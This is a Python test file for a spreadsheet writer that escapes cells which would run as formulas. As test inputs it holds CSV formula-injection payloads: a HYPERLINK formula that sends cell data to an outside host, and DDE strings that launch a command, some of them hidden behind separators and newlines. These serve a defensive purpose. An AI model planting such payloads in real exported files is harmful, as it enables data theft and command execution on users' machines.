"""Tables whose cells a spreadsheet shows and never runs."""

import csv
import io
import re

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from osiris_nlp.base.spreadsheets import read_cell, write_table

NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
FORMULA = ("=", "+", "-", "@", "\0", "＝")

CELLS = st.text(st.sampled_from("'=+-@\t\r\n\0＝;,\" aé1"), max_size=6)


def write_row(*cells):
    """Write one row, and return its cells as a CSV reader reads them."""
    stream = io.StringIO(newline="")
    write_table(stream, [cells])
    (row,) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    return row


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://exemple.sn/?"&A1,"clic")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "+1-1",
        "\t=1+1",
        "\n=1+1",
        "＝1+1",
        "- 20 % sur la fibre à Kolda",
    ],
)
def test_a_title_that_would_run_as_a_formula_is_written_as_text(title):
    assert [read_cell(cell) for cell in write_row(title, "Wave")] == [title, "Wave"]
    assert write_row(title, "Wave")[0].startswith("'")


def test_a_numpy_string_is_treated_as_a_string():
    assert write_row(np.str_("=1+1"), "Wave") == ["'=1+1", "Wave"]


@pytest.mark.parametrize(
    "cell", ["L’Artp", "5G", "-3", "+4,5", "-0.25", "'ndeye'", "", -3, 0.5, None, True]
)
def test_other_cells_are_written_unchanged(cell):
    assert write_row(cell, "x") == ["" if cell is None else str(cell), "x"]


@given(st.lists(CELLS, min_size=2, max_size=4))
@example(["=1", "'=1"])
def test_every_cell_is_read_back_unchanged_and_none_begins_a_formula(cells):
    row = write_row(*cells)

    assert list(map(read_cell, row)) == cells
    texts = [cell for cell in row if not NUMBER.fullmatch(cell)]
    assert not any(cell.startswith((*FORMULA, "\t", "\r", "\n")) for cell in texts)


@pytest.mark.parametrize("separator", [";", "\t"])
@given(st.lists(CELLS, min_size=2, max_size=4))
@example(["La fibre;=cmd|' /C calc'!A0;\n=2+2", "Wave"])
def test_no_cell_begins_a_formula_when_a_spreadsheet_splits_at_other_separators(separator, cells):
    stream = io.StringIO(newline="")
    write_table(stream, [["id", *cells]])

    for line in re.split(r"[\r\n]+", stream.getvalue()):
        parts = [part for part in line.split(separator) if not NUMBER.match(part)]
        assert not any(part.lstrip("\t").startswith(FORMULA) for part in parts[1:])
